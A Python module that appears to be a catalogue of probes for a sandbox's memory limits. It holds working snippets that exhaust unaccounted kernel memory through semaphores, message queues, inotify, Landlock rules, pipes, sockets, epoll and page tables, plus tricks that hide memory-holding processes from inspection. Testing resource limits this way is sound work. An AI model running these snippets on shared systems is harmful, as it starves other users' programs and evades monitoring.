"""Attacks on kernel memory, which is not part of a process's own memory.

Like code_attacks.py: name -> (what it tries, the source of a cell). Each stops by itself.
"""

CHILDREN = """
import os, time
def everywhere(use):
    for _ in range(12):
        try:
            if not os.fork():
                kept = use(); time.sleep(100)
        except OSError:
            break
    return use()
"""

HOLDERS = """
import ctypes, mmap, os, threading, time
def hold():
    kept = mmap.mmap(-1, 90 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for part in range(90): kept.write(b"x" * (1 << 20))
    time.sleep(100)
children = []
for _ in range(7):
    children.append(os.fork())
    if not children[-1]:
        HOLD
time.sleep(2.5)
if not any(os.waitpid(child, os.WNOHANG)[0] for child in children): print("FOUND 600 MB that nobody counts")
"""

KERNEL_MEMORY = {
    "unmapped_shared_memory": (
        "shared memory of which only one page is mapped",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
zero = os.open("/dev/zero", os.O_RDONLY)
for number in range(20):
    for flags, access, fd in ((0x21, 3, -1), (0x01, 1, zero)):
        start = libc.mmap(None, ctypes.c_size_t(100 << 20), access, flags, fd, ctypes.c_long(0))
        if start in (None, ctypes.c_void_p(-1).value):
            continue
        for place in range(start, start + (100 << 20), 4096): ctypes.string_at(place, 1)
        libc.munmap(ctypes.c_void_p(start + 4096), ctypes.c_size_t((100 << 20) - 4096))
        print("FOUND 100 MB that nobody counts")
""",
    ),
    "slow_to_count": (
        "mappings that make counting memory slow, and memory meanwhile",
        CHILDREN
        + """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
start = libc.mmap(None, ctypes.c_size_t(100 << 20), 0, 0x22, -1, ctypes.c_long(0))
for page in range(0, 20000, 2):
    libc.mprotect(ctypes.c_void_p(start + page * 4096), 4096, 1)
def use():
    kept = mmap.mmap(-1, 200 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for part in range(200):
        kept.write(bytes(1 << 20)); time.sleep(0.02)
    return kept
kept = everywhere(use)
""",
    ),
    "crashes": (
        "processes that crash, to start the system's crash handler",
        """
import os, resource, time
try:
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0)); print("FOUND a limit that starts it")
except (OSError, ValueError):
    pass
end = time.time() + 1
while time.time() < end:
    if not os.fork():
        os.kill(os.getpid(), 11); os._exit(1)
    os.wait()
""",
    ),
    "semaphores": (
        "System V semaphores: 2 MB of the kernel's memory for each call",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if sum(libc.semget(0, 32000, 0o1600) >= 0 for _ in range(100)):
    print("FOUND 200 MB that nobody counts")
""",
    ),
    "message_queues": (
        "System V message queues that outlive their process",
        """
import ctypes
libc, text = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(b"\\1" + bytes(8191))
queues = [libc.msgget(0, 0o1600) for _ in range(5000)]
if sum(libc.msgsnd(queue, text, 8000, 0o4000) == 0 for queue in queues if queue >= 0):
    print("FOUND 40 MB that nobody counts")
""",
    ),
    "inotify_events": (
        "events of inotify that nobody reads, 128 queues of them",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
queues = [libc.inotify_init1(0o4000) for _ in range(120)]
for queue in queues:
    libc.inotify_add_watch(queue, b".", 0xfff)
for number in range(300):
    name = "x" * 200 + str(number)
    open(name, "w").close(); os.unlink(name)
if max(queues) >= 0:
    print("FOUND 100 MB that nobody counts")
""",
    ),
    "landlock_rules": (
        "rules of Landlock, 65,536 for each open file",
        """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(10):
    rules = libc.syscall(444, struct.pack("=QQ", 0, 3), 16, 0)
    if rules >= 0:
        print("FOUND rules that nobody counts")
    for port in range(65536 if rules >= 0 else 0):
        libc.syscall(445, rules, 2, struct.pack("=QQ", 1, port), 0)
""",
    ),
    "asynchronous_requests": (
        "all requests of asynchronous input and output that the machine has",
        """
import ctypes
libc, contexts = ctypes.CDLL(None, use_errno=True), (ctypes.c_ulong * 100)()
if sum(libc.syscall(206, 1000, ctypes.byref(contexts, 8 * i)) == 0 for i in range(65)):
    print("FOUND requests that other programs need")
""",
    ),
    "file_locks": (
        "locks on single bytes of files",
        """
import fcntl, os
for number in range(60):
    fd = os.open(f"lock{number}", os.O_RDWR | os.O_CREAT)
    for i in range(3000):
        fcntl.lockf(fd, fcntl.LOCK_EX, 1, 2 * i)
""",
    ),
    "many_mappings": (
        "65,000 mappings in each of many processes",
        CHILDREN
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
def use():
    start = libc.mmap(None, ctypes.c_size_t(240 << 20), 0, 0x22, -1, ctypes.c_long(0))
    for page in range(0, 60000, 2):
        libc.mprotect(ctypes.c_void_p(start + page * 4096), 4096, 1)
kept = everywhere(use)
""",
    ),
    "pipes": (
        "pipes that are full, as large as they can be made",
        CHILDREN
        + """
import fcntl
def use():
    kept = []
    try:
        while True:
            ends = os.pipe(); kept.append(ends); os.set_blocking(ends[1], False)
            try:
                fcntl.fcntl(ends[1], 1031, 1 << 20); print("FOUND a larger pipe")
            except OSError:
                pass
            try:
                while True: os.write(ends[1], bytes(1 << 16))
            except BlockingIOError:
                pass
    except OSError:
        pass
    return kept
kept = everywhere(use)
""",
    ),
    "tcp_buffers": (
        "TCP sockets, whose buffers grow by themselves",
        """
import socket
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(100)
kept, most = [], 0
for _ in range(40):
    a = socket.create_connection(server.getsockname()); b, _ = server.accept()
    kept += [a, b]; a.setblocking(False); sent = 0
    try:
        while True: sent += a.send(bytes(1 << 18))
    except BlockingIOError:
        most = max(most, sent)
if most > 1 << 20:
    print("FOUND a socket that holds", most)
""",
    ),
    "epoll_entries": (
        "entries of epoll, a hundred files in a hundred lists",
        CHILDREN
        + """
import select
def use():
    files, lists = [os.dup(0) for _ in range(100)], []
    ends = [os.pipe() for _ in range(20)]
    try:
        while True:
            lists.append(select.epoll())
            for pair in ends:
                lists[-1].register(pair[0])
    except OSError:
        pass
    return lists
kept = everywhere(use)
""",
    ),
    "terminals": (
        "terminals without end",
        """
import os
kept = []
try:
    while True: kept.append(os.openpty())
except OSError:
    pass
""",
    ),
    "page_tables": (
        "reads empty pages, of which only the page tables need memory",
        CHILDREN
        + """
import mmap
def use():
    kept = mmap.mmap(-1, 200 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for page in range(0, 200 << 20, 4096): kept[page]
    return kept
kept = everywhere(use)
""",
    ),
    "access_lists": (
        "access lists of files, 128 kB of the kernel's memory for each",
        """
import os, struct
entries = [(1, 7, -1)] + [(2, 7, os.getuid())] * 8000 + [(4, 7, -1), (16, 7, -1), (32, 0, -1)]
access = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
for number in range(1000):
    try:
        open(f"a{number}", "w").close(); os.setxattr(f"a{number}", "system.posix_acl_access", access)
    except OSError: break
if number > 10: print("FOUND", number, "lists that nobody counts")
""",
    ),
    "unreadable_processes": (
        "processes that the system lets nobody look into",
        HOLDERS.replace("HOLD", "ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); hold()"),
    ),
    "main_thread_has_ended": (
        "processes whose main thread has ended and whose other threads go on, which look like ended ones",
        HOLDERS.replace("HOLD", "threading.Thread(target=hold).start(); ctypes.CDLL(None).pthread_exit(None)"),
    ),
    "epoll_entries_of_closed_files": (
        "entries of epoll that stay when their file number is used again",
        """
import os, select, time
lists, entries, end = [select.epoll() for _ in range(3)], 0, time.time() + 2.5
while time.time() < end:
    files = [os.pipe()[0] for _ in range(60)]
    try:
        if not os.fork(): time.sleep(100)
    except OSError: break
    for file in files:
        for number in range(200, 250):
            os.dup2(file, number)
            for entry in lists:
                entry.register(number); entries += 1
    os.closerange(files[0], 190)
time.sleep(1.2)
if entries > 150_000: print("FOUND", entries, "entries that nobody counts")
""",
    ),
}
